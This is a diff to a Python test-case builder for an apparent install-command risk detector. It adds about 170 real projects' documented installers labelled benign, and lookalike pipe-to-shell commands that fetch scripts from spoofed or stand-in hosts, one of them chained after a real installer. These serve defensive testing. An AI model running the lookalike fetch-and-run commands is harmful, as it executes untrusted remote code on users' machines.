@@ -34,6 +34,10 @@ Principles:
   their own, a user part, inside another domain, spelt with a word joined on, another forge
   account, plain HTTP, a stranger's script chained after (flagged); the real script with a fake
   check's tail, a password prompt or keys sent away (blocked), and any of them in the Run box.
+- `real-own-page-installer`: 170-odd real projects' install commands as their own README, docs or
+  download page gives them (pipe-to-shell from their own or vanity host, forge releases and raw
+  files, `go install`, `cargo install --git`, `pip install git+…`, `uv tool install`, taps and
+  casks, winget, `iwr | iex`, `docker run`, Helm repositories, kubectl manifests): quiet.
 """
 
 from __future__ import annotations
@@ -144,6 +148,194 @@ def run_box(book: Book) -> None:
             book.add("snapin-switch-written", text, "flagged", "windows", RUN, MAIL)
 
 
+# -- real projects' own install commands, from their own pages ----------------------------------
+
+# (the project's own page: README, docs or download page; its documented command). Forge
+# releases, raw files of its own repository, vanity hosts, `go install`, `cargo install --git`,
+# `pip install git+…`, `uv tool install`, taps, casks, winget, `iwr | iex`, `docker run`, Helm
+# repositories and manifests: each as the project gives it. (Those the dev corpus already holds,
+# Homebrew, rustup, uv and the like, are left out: test_labelled_cases.)
+REAL_OWN_PAGES = [
+    ("https://bun.sh/docs/installation", 'powershell -c "irm bun.sh/install.ps1 | iex"'),
+    ("https://docs.deno.com/runtime/getting_started/installation/", "curl -fsSL https://deno.land/install.sh | sh"),
+    ("https://github.com/ajeetdsouza/zoxide", "curl -sSfL https://raw.githubusercontent.com/ajeetdsouza/zoxide/main/install.sh | sh"),
+    ("https://docs.atuin.sh/guide/installation/", "curl --proto '=https' --tlsv1.2 -LsSf https://setup.atuin.sh | sh"),
+    ("https://pnpm.io/installation", "curl -fsSL https://get.pnpm.io/install.sh | sh -"),
+    ("https://pnpm.io/installation", "Invoke-WebRequest https://get.pnpm.io/install.ps1 -UseBasicParsing | Invoke-Expression"),
+    ("https://volta.sh/", "curl https://get.volta.sh | bash"),
+    ("https://github.com/pyenv/pyenv", "curl https://pyenv.run | bash"),
+    ("https://sdkman.io/install", 'curl -s "https://get.sdkman.io" | bash'),
+    ("https://pixi.sh/latest/", "curl -fsSL https://pixi.sh/install.sh | bash"),
+    ("https://mise.jdx.dev/getting-started.html", "curl https://mise.run | sh"),
+    ("https://fly.io/docs/flyctl/install/", "curl -L https://fly.io/install.sh | sh"),
+    ("https://supabase.com/docs/guides/local-development/cli/getting-started", "brew install supabase/tap/supabase"),
+    ("https://helm.sh/docs/intro/install/", "curl https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash"),
+    ("https://k9scli.io/topics/install/", "brew install derailed/k9s/k9s"),
+    ("https://goreleaser.com/install/", "brew install goreleaser/tap/goreleaser"),
+    ("https://golangci-lint.run/welcome/install/", "curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/HEAD/install.sh | sh -s -- -b $(go env GOPATH)/bin v1.61.0"),
+    ("https://github.com/golang/tools/tree/master/gopls", "go install golang.org/x/tools/gopls@latest"),
+    ("https://github.com/junegunn/fzf", "git clone --depth 1 https://github.com/junegunn/fzf.git ~/.fzf && ~/.fzf/install"),
+    ("https://github.com/jesseduffield/lazygit", "go install github.com/jesseduffield/lazygit@latest"),
+    ("https://github.com/mvdan/gofumpt", "go install mvdan.cc/gofumpt@latest"),
+    ("https://yazi-rs.github.io/docs/installation", "cargo install --locked --git https://github.com/sxyazi/yazi.git yazi-fm yazi-cli"),
+    ("https://docs.astral.sh/uv/getting-started/installation/", "cargo install --git https://github.com/astral-sh/uv uv"),
+    ("https://github.com/openai/whisper", "pip install git+https://github.com/openai/whisper.git"),
+    ("https://github.com/huggingface/transformers", "pip install git+https://github.com/huggingface/transformers"),
+    ("https://github.com/darrenburns/posting", "uv tool install --python 3.12 posting"),
+    ("https://docs.astral.sh/ruff/installation/", "uv tool install ruff@latest"),
+    ("https://wezterm.org/install/macos.html", "brew install --cask wezterm"),
+    ("https://developer.hashicorp.com/terraform/install", "brew tap hashicorp/tap && brew install hashicorp/tap/terraform"),
+    ("https://github.com/bitnami/charts", "helm repo add bitnami https://charts.bitnami.com/bitnami"),
+    ("https://github.com/prometheus-community/helm-charts", "helm repo add prometheus-community https://prometheus-community.github.io/helm-charts"),
+    ("https://cert-manager.io/docs/installation/helm/", "helm repo add jetstack https://charts.jetstack.io --force-update"),
+    ("https://kubernetes.github.io/ingress-nginx/deploy/", "helm upgrade --install ingress-nginx ingress-nginx --repo https://kubernetes.github.io/ingress-nginx --namespace ingress-nginx --create-namespace"),
+    ("https://cert-manager.io/docs/installation/kubectl/", "kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.16.1/cert-manager.yaml"),
+    ("https://argo-cd.readthedocs.io/en/stable/getting_started/", "kubectl create namespace argocd && kubectl apply -n argocd -f https://raw.githubusercontent.com/argoproj/argo-cd/stable/manifests/install.yaml"),
+    ("https://docs.portainer.io/start/install-ce/server/docker/linux", "docker run -d -p 8000:8000 -p 9443:9443 --name portainer --restart=always -v /var/run/docker.sock:/var/run/docker.sock -v portainer_data:/data portainer/portainer-ce:lts"),
+    ("https://github.com/louislam/uptime-kuma", "docker run -d --restart=always -p 3001:3001 -v uptime-kuma:/app/data --name uptime-kuma louislam/uptime-kuma:1"),
+    ("https://github.com/open-webui/open-webui", "docker run -d -p 3000:8080 --add-host=host.docker.internal:host-gateway -v open-webui:/app/backend/data --name open-webui --restart always ghcr.io/open-webui/open-webui:main"),
+    ("https://github.com/CorentinTh/it-tools", "docker run -d --name it-tools --restart unless-stopped -p 8080:80 corentinth/it-tools:latest"),
+    ("https://learn.netdata.cloud/docs/netdata-agent/installation/linux/", "wget -O /tmp/netdata-kickstart.sh https://get.netdata.cloud/kickstart.sh && sh /tmp/netdata-kickstart.sh"),
+    ("https://github.com/IceWhaleTech/CasaOS", "curl -fsSL https://get.casaos.io | sudo bash"),
+    ("https://coolify.io/docs/get-started/installation", "curl -fsSL https://cdn.coollabs.io/coolify/install.sh | bash"),
+    ("https://dokku.com/docs/getting-started/installation/", "wget -NP . https://dokku.com/install/v0.35.12/bootstrap.sh; sudo DOKKU_TAG=v0.35.12 bash bootstrap.sh"),
+    ("https://caprover.com/docs/get-started.html", "docker run -p 80:80 -p 443:443 -p 3000:3000 -e ACCEPTED_TERMS=true -v /var/run/docker.sock:/var/run/docker.sock -v /captain:/captain caprover/caprover"),
+    ("https://spicetify.app/docs/advanced-usage/installation", "curl -fsSL https://raw.githubusercontent.com/spicetify/cli/main/install.sh | sh"),
+    ("https://ohmyposh.dev/docs/installation/windows", "winget install JanDeDobbeleer.OhMyPosh -s winget"),
+    ("https://ohmyposh.dev/docs/installation/linux", "curl -s https://ohmyposh.dev/install.sh | bash -s"),
+    ("https://github.com/DeterminateSystems/nix-installer", "curl --proto '=https' --tlsv1.2 -sSf -L https://install.determinate.systems/nix | sh -s -- install"),
+    ("https://nixos.org/download/", "sh <(curl -L https://nixos.org/nix/install) --daemon"),
+    ("https://opentofu.org/docs/intro/install/standalone/", "curl --proto '=https' --tlsv1.2 -fsSL https://get.opentofu.org/install-opentofu.sh -o install-opentofu.sh"),
+    ("https://zed.dev/docs/linux", "curl -f https://zed.dev/install.sh | sh"),
+    ("https://docs.anthropic.com/en/docs/claude-code/setup", "curl -fsSL https://claude.ai/install.sh | bash"),
+    ("https://jellyfin.org/docs/general/installation/linux", "curl https://repo.jellyfin.org/install-debuntu.sh | sudo bash"),
+    ("https://webmin.com/download/", "curl -o webmin-setup-repo.sh https://raw.githubusercontent.com/webmin/webmin/master/webmin-setup-repo.sh && sudo sh webmin-setup-repo.sh"),
+    ("https://github.com/nodesource/distributions", "curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -"),
+    ("https://calibre-ebook.com/download_linux", "sudo -v && wget -nv -O- https://download.calibre-ebook.com/linux-installer.sh | sudo sh /dev/stdin"),
+    ("https://github.com/conda-forge/miniforge", 'wget "https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-$(uname)-$(uname -m).sh" && bash Miniforge3-$(uname)-$(uname -m).sh'),
+    ("https://julialang.org/downloads/", "curl -fsSL https://install.julialang.org | sh"),
+    ("https://www.haskell.org/ghcup/", "curl --proto '=https' --tlsv1.2 -sSf https://get-ghcup.haskell.org | sh"),
+    ("https://opam.ocaml.org/doc/Install.html", 'bash -c "sh <(curl -fsSL https://opam.ocaml.org/install.sh)"'),
+    ("https://github.com/bazelbuild/bazelisk", "go install github.com/bazelbuild/bazelisk@latest"),
+    ("https://docs.dagger.io/install", "curl -fsSL https://dl.dagger.io/dagger/install.sh | BIN_DIR=$HOME/.local/bin sh"),
+    ("https://docs.tilt.dev/install.html", "curl -fsSL https://raw.githubusercontent.com/tilt-dev/tilt/master/scripts/install.sh | bash"),
+    ("https://k3d.io/", "curl -s https://raw.githubusercontent.com/k3d-io/k3d/main/install.sh | bash"),
+    ("https://kind.sigs.k8s.io/docs/user/quick-start/", "go install sigs.k8s.io/kind@v0.24.0"),
+    ("https://www.pulumi.com/docs/iac/download-install/", "curl -fsSL https://get.pulumi.com | sh"),
+    ("https://encore.dev/docs/install", "curl -L https://encore.dev/install.sh | bash"),
+    ("https://docs.temporal.io/cli", "curl -sSf https://temporal.download/cli.sh | sh"),
+    ("https://docs.railway.com/guides/cli", "bash <(curl -fsSL cli.new)"),
+    ("https://wasmtime.dev/", "curl https://wasmtime.dev/install.sh -sSf | bash"),
+    ("https://wasmer.io/", "curl https://get.wasmer.io -sSfL | sh"),
+    ("https://docs.anza.xyz/cli/install", 'sh -c "$(curl -sSfL https://release.anza.xyz/stable/install)"'),
+    ("https://docs.sentry.io/cli/installation/", "curl -sL https://sentry.io/get-cli/ | sh"),
+    ("https://docs.doppler.com/docs/install-cli", '(curl -Ls --tlsv1.2 --proto "=https" --retry 3 https://cli.doppler.com/install.sh || wget -t 3 -qO- https://cli.doppler.com/install.sh) | sudo sh'),
+    ("https://github.com/charmbracelet/glow", "go install github.com/charmbracelet/glow@latest"),
+    ("https://github.com/jesseduffield/lazydocker", "curl https://raw.githubusercontent.com/jesseduffield/lazydocker/master/scripts/install_update_linux.sh | bash"),
+    ("https://github.com/ohmybash/oh-my-bash", 'bash -c "$(curl -fsSL https://raw.githubusercontent.com/ohmybash/oh-my-bash/master/tools/install.sh)"'),
+    ("https://github.com/zdharma-continuum/zinit", 'bash -c "$(curl --fail --show-error --silent --location https://raw.githubusercontent.com/zdharma-continuum/zinit/HEAD/scripts/install.sh)"'),
+    ("https://github.com/junegunn/vim-plug", "curl -fLo ~/.vim/autoload/plug.vim --create-dirs https://raw.githubusercontent.com/junegunn/vim-plug/master/plug.vim"),
+    ("https://learn.microsoft.com/en-us/powershell/scripting/install/installing-powershell-on-windows", "winget install --id Microsoft.PowerShell --source winget"),
+    ("https://learn.microsoft.com/en-us/dotnet/core/install/linux-scripted-manual", "wget https://dot.net/v1/dotnet-install.sh -O dotnet-install.sh"),
+    ("https://learn.microsoft.com/en-us/cli/azure/install-azure-cli-linux", "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash"),
+    ("https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html", 'curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o "awscliv2.zip" && unzip awscliv2.zip && sudo ./aws/install'),
+    ("https://devcenter.heroku.com/articles/heroku-cli", "curl https://cli-assets.heroku.com/install.sh | sh"),
+    ("https://goteleport.com/docs/installation/", "curl https://cdn.teleport.dev/install.sh | bash -s 16.4.6"),
+    ("https://aquasecurity.github.io/trivy/latest/getting-started/installation/", "curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin v0.56.2"),
+    ("https://github.com/anchore/grype", "curl -sSfL https://raw.githubusercontent.com/anchore/grype/main/install.sh | sh -s -- -b /usr/local/bin"),
+    ("https://github.com/anchore/syft", "curl -sSfL https://raw.githubusercontent.com/anchore/syft/main/install.sh | sh -s -- -b /usr/local/bin"),
+    ("https://docs.sigstore.dev/cosign/system_config/installation/", "go install github.com/sigstore/cosign/v2/cmd/cosign@latest"),
+    ("https://github.com/casey/just", "curl --proto '=https' --tlsv1.2 -sSf https://just.systems/install.sh | bash -s -- --to ~/bin"),
+    ("https://github.com/cargo-bins/cargo-binstall", "curl -L --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/cargo-bins/cargo-binstall/main/install-from-binstall-release.sh | bash"),
+    ("https://developer.fermyon.com/spin/v2/install", "curl -fsSL https://developer.fermyon.com/downloads/install.sh | bash"),
+    ("https://community-scripts.github.io/ProxmoxVE/scripts?id=homeassistant", 'bash -c "$(curl -fsSL https://raw.githubusercontent.com/community-scripts/ProxmoxVE/main/ct/homeassistant.sh)"'),
+    ("https://github.com/tldr-pages/tldr", "pipx install tldr"),
+    ("https://github.com/aristocratos/btop", "sudo snap install btop"),
+    ("https://github.com/sharkdp/bat", "cargo install --locked bat"),
+    ("https://github.com/BurntSushi/ripgrep", "cargo install ripgrep"),
+    ("https://github.com/eza-community/eza", "cargo install eza"),
+    ("https://github.com/ducaale/xh", "curl -sfL https://raw.githubusercontent.com/ducaale/xh/master/install.sh | sh"),
+    ("https://github.com/ducaale/xh", "iwr -useb https://raw.githubusercontent.com/ducaale/xh/master/install.ps1 | iex"),
+    ("https://github.com/sharkdp/hyperfine", "cargo install --locked hyperfine"),
+    ("https://github.com/extrawurst/gitui", "cargo install gitui --locked"),
+    ("https://github.com/wagoodman/dive", "docker run -ti --rm -v /var/run/docker.sock:/var/run/docker.sock wagoodman/dive:latest"),
+    ("https://github.com/containrrr/watchtower", "docker run --detach --name watchtower --volume /var/run/docker.sock:/var/run/docker.sock containrrr/watchtower"),
+    ("https://github.com/filebrowser/filebrowser", "curl -fsSL https://raw.githubusercontent.com/filebrowser/get/master/get.sh | bash"),
+    ("https://github.com/go-gitea/gitea", "docker run -d --name=gitea -p 3000:3000 -v /var/lib/gitea:/data gitea/gitea:latest"),
+    ("https://github.com/asdf-vm/asdf", "go install github.com/asdf-vm/asdf/cmd/asdf@v0.16.0"),
+    ("https://github.com/nektos/act", "curl --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/nektos/act/master/install.sh | sudo bash"),
+    ("https://github.com/direnv/direnv", "curl -sfL https://direnv.net/install.sh | bash"),
+    ("https://github.com/gitleaks/gitleaks", "brew install gitleaks"),
+    ("https://github.com/git-ecosystem/git-credential-manager", "brew install --cask git-credential-manager"),
+    ("https://github.com/cli/cli", "winget install --id GitHub.cli"),
+    ("https://github.com/pypa/pipx", "python3 -m pip install --user pipx && python3 -m pipx ensurepath"),
+    ("https://github.com/pypa/hatch", "pipx install hatch"),
+    ("https://github.com/tox-dev/tox", "pipx install tox"),
+    ("https://github.com/aws/aws-sam-cli", "pip install aws-sam-cli"),
+    ("https://github.com/sherlock-project/sherlock", "pipx install sherlock-project"),
+    ("https://github.com/yt-dlp/yt-dlp", "python3 -m pip install -U \"yt-dlp[default]\""),
+    ("https://github.com/Aider-AI/aider", "python -m pip install aider-install && aider-install"),
+    ("https://github.com/jdx/mise", "curl https://mise.run | sh"),
+    ("https://github.com/denoland/deno", "curl -fsSL https://deno.land/install.sh | sh"),
+    ("https://github.com/astral-sh/ruff", "curl -LsSf https://astral.sh/ruff/install.sh | sh"),
+    ("https://github.com/coder/code-server", "curl -fsSL https://code-server.dev/install.sh | sh"),
+    ("https://github.com/gohugoio/hugo", "go install github.com/gohugoio/hugo@latest"),
+    ("https://github.com/caddyserver/xcaddy", "go install github.com/caddyserver/xcaddy/cmd/xcaddy@latest"),
+    ("https://github.com/ko-build/ko", "go install github.com/google/ko@latest"),
+    ("https://github.com/air-verse/air", "go install github.com/air-verse/air@latest"),
+    ("https://github.com/air-verse/air", "curl -sSfL https://raw.githubusercontent.com/air-verse/air/master/install.sh | sh -s -- -b $(go env GOPATH)/bin"),
+    ("https://github.com/pressly/goose", "go install github.com/pressly/goose/v3/cmd/goose@latest"),
+    ("https://github.com/pressly/goose", "curl -fsSL https://raw.githubusercontent.com/pressly/goose/master/install.sh | sh"),
+    ("https://github.com/golang-migrate/migrate", "go install -tags 'postgres' github.com/golang-migrate/migrate/v4/cmd/migrate@latest"),
+    ("https://github.com/sqlc-dev/sqlc", "go install github.com/sqlc-dev/sqlc/cmd/sqlc@latest"),
+    ("https://github.com/helix-editor/helix", "brew install helix"),
+    ("https://github.com/neovim/neovim", "curl -LO https://github.com/neovim/neovim/releases/latest/download/nvim-linux-x86_64.tar.gz"),
+    ("https://github.com/Wilfred/difftastic", "cargo install --locked difftastic"),
+    ("https://github.com/bootandy/dust", "cargo install du-dust"),
+    ("https://github.com/tealdeer-rs/tealdeer", "cargo install tealdeer"),
+    ("https://github.com/rossmacarthur/sheldon", "curl --proto '=https' -fLsS https://rossmacarthur.github.io/install/crate.sh | bash -s -- --repo rossmacarthur/sheldon --to ~/.local/bin"),
+    ("https://github.com/topgrade-rs/topgrade", "cargo install topgrade"),
+    ("https://github.com/ellie/atuin", "bash <(curl https://raw.githubusercontent.com/atuinsh/atuin/main/install.sh)"),
+    ("https://github.com/Orange-OpenSource/hurl", "cargo install --locked hurl"),
+    ("https://github.com/svenstaro/miniserve", "cargo install --locked miniserve"),
+    ("https://github.com/watchexec/watchexec", "cargo binstall watchexec-cli"),
+    ("https://github.com/mozilla/sccache", "cargo install sccache --locked"),
+    ("https://github.com/dandavison/delta", "cargo install git-delta"),
+    ("https://github.com/microsoft/vcpkg", "git clone https://github.com/microsoft/vcpkg.git && cd vcpkg && ./bootstrap-vcpkg.sh"),
+    ("https://github.com/emscripten-core/emsdk", "git clone https://github.com/emscripten-core/emsdk.git && cd emsdk && ./emsdk install latest && ./emsdk activate latest"),
+    ("https://github.com/AUTOMATIC1111/stable-diffusion-webui", "wget -q https://raw.githubusercontent.com/AUTOMATIC1111/stable-diffusion-webui/master/webui.sh"),
+    ("https://github.com/comfyanonymous/ComfyUI", "git clone https://github.com/comfyanonymous/ComfyUI.git && cd ComfyUI && pip install -r requirements.txt"),
+    ("https://github.com/ggerganov/llama.cpp", "brew install llama.cpp"),
+    ("https://github.com/mudler/LocalAI", "curl https://localai.io/install.sh | sh"),
+    ("https://github.com/netbirdio/netbird", "curl -fsSL https://pkgs.netbird.io/install.sh | sh"),
+    ("https://github.com/zerotier/ZeroTierOne", "curl -s https://install.zerotier.com | sudo bash"),
+    ("https://github.com/AdguardTeam/AdGuardHome", "curl -s -S -L https://raw.githubusercontent.com/AdguardTeam/AdGuardHome/master/scripts/install.sh | sh -s -- -v"),
+    ("https://github.com/crowdsecurity/crowdsec", "curl -s https://install.crowdsec.net | sudo sh"),
+    ("https://github.com/wg-easy/wg-easy", "docker run -d --name=wg-easy -e WG_HOST=vpn.example.com -v ~/.wg-easy:/etc/wireguard -p 51820:51820/udp -p 51821:51821/tcp --cap-add=NET_ADMIN --cap-add=SYS_MODULE --restart unless-stopped ghcr.io/wg-easy/wg-easy"),
+    ("https://github.com/angristan/wireguard-install", "curl -O https://raw.githubusercontent.com/angristan/wireguard-install/master/wireguard-install.sh && chmod +x wireguard-install.sh && ./wireguard-install.sh"),
+    ("https://github.com/angristan/openvpn-install", "curl -O https://raw.githubusercontent.com/angristan/openvpn-install/master/openvpn-install.sh && chmod +x openvpn-install.sh && ./openvpn-install.sh"),
+    ("https://github.com/hwdsl2/setup-ipsec-vpn", "wget https://get.vpnsetup.net -O vpn.sh && sudo sh vpn.sh"),
+    ("https://github.com/nextcloud/all-in-one", "sudo docker run --init --sig-proxy=false --name nextcloud-aio-mastercontainer --restart always --publish 80:80 --publish 8080:8080 --publish 8443:8443 --volume nextcloud_aio_mastercontainer:/mnt/docker-aio-config --volume /var/run/docker.sock:/var/run/docker.sock:ro nextcloud/all-in-one:latest"),
+    ("https://github.com/immich-app/immich", "curl -o- https://raw.githubusercontent.com/immich-app/immich/main/install.sh | bash"),
+    ("https://github.com/photoprism/photoprism", "curl -sSf https://dl.photoprism.app/podman/install.sh | bash"),
+    ("https://github.com/microsoft/PowerToys", "winget install Microsoft.PowerToys --source winget"),
+    ("https://github.com/microsoft/terminal", "winget install --id Microsoft.WindowsTerminal -e"),
+    ("https://github.com/PowerShell/PowerShell", "iex \"& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI\""),
+    ("https://github.com/Raphire/Win11Debloat", "& ([scriptblock]::Create((irm \"https://debloat.raphi.re/\")))"),
+    ("https://github.com/jdhitsolutions/PSScriptTools", "Install-Module PSScriptTools"),
+    ("https://github.com/coreybutler/nvm-windows", "winget install CoreyButler.NVMforWindows"),
+    ("https://github.com/volta-cli/volta", "winget install Volta.Volta"),
+    ("https://github.com/ScoopInstaller/Install", "iex \"& {$(irm get.scoop.sh)} -RunAsAdmin\""),
+    ("https://github.com/chocolatey/choco", "choco install git -y"),
+    ("https://github.com/ogham/exa", "cargo install exa"),
+]  # fmt: skip
+
+
+def real_own_pages(book: Book) -> None:
+    for page, text in REAL_OWN_PAGES:
+        book.add("real-own-page-installer", text, "not_flagged", "any", TERMINAL, page)
+
+
 # -- well-known tools' documented installers, quoted by someone else ------------------------------
 
 # each tool's own documented command (resources/trust.yaml names the page that gives it)
@@ -183,6 +375,17 @@ KNOWN_INSTALLERS = [
     "curl -fsSL https://pkgs.netbird.io/install.sh | sh",
     "curl https://repo.jellyfin.org/install-debuntu.sh | sudo bash",
     "curl -o webmin-setup-repo.sh https://raw.githubusercontent.com/webmin/webmin/master/webmin-setup-repo.sh && sudo sh webmin-setup-repo.sh",
+    # names that are words (listed with `word: true`)
+    "curl -fsSL https://dl.dagger.io/dagger/install.sh | BIN_DIR=$HOME/.local/bin sh",
+    "curl -sL https://sentry.io/get-cli/ | sh",
+    '(curl -Ls --tlsv1.2 --proto "=https" --retry 3 https://cli.doppler.com/install.sh || wget -t 3 -qO- https://cli.doppler.com/install.sh) | sudo sh',
+    "curl https://cli-assets.heroku.com/install.sh | sh",
+    "curl https://cdn.teleport.dev/install.sh | bash -s 16.4.6",
+    "curl --proto '=https' --tlsv1.2 -sSf https://just.systems/install.sh | bash -s -- --to ~/bin",
+    "curl -fsSL https://get.casaos.io | sudo bash",
+    "curl -sSfL https://raw.githubusercontent.com/anchore/grype/main/install.sh | sh -s -- -b /usr/local/bin",
+    "curl -sSfL https://raw.githubusercontent.com/anchore/syft/main/install.sh | sh -s -- -b /usr/local/bin",
+    "curl --proto '=https' --tlsv1.2 -sSfL https://sh.vector.dev | bash",
 ]  # fmt: skip
 # pages of people other than the tool's authors: a tutorial, a video, a question, a forum, a chat
 # log, another project's README and its discussions, a course's setup page
@@ -216,6 +419,10 @@ BORROWED = [
     "curl -fsSL https://code-server.dev.umbra-stage.test/install.sh | sh",
     "curl -sfL https://direnv-net.example/install.sh | bash",
     "curl -fsSL https://raw.githubusercontent.com/filebrowser-get/get/master/get.sh | bash",
+    "curl -fsSL https://dl.dagger.io.umbra-stage.test/install.sh | sh",
+    "curl https://cli-assets.heroku.com:8443/install.sh | sh",
+    "curl -sSfL https://raw.githubusercontent.com/anchore-dev/grype/main/install.sh | sh",
+    "curl -fsSL https://just.systems@203.0.113.5/install.sh | bash",
     # the real script and a stranger's after it: the stranger's is judged as any other
     "curl -fsSL https://get.pulumi.com | sh && curl -s https://cdn.umbra-stage.test/p | bash",
 ]  # fmt: skip
@@ -250,6 +457,7 @@ def build() -> list[dict[str, str]]:
     camel_pages(book)
     run_box(book)
     known_installers(book)
+    real_own_pages(book)
     return book.cases
 
 
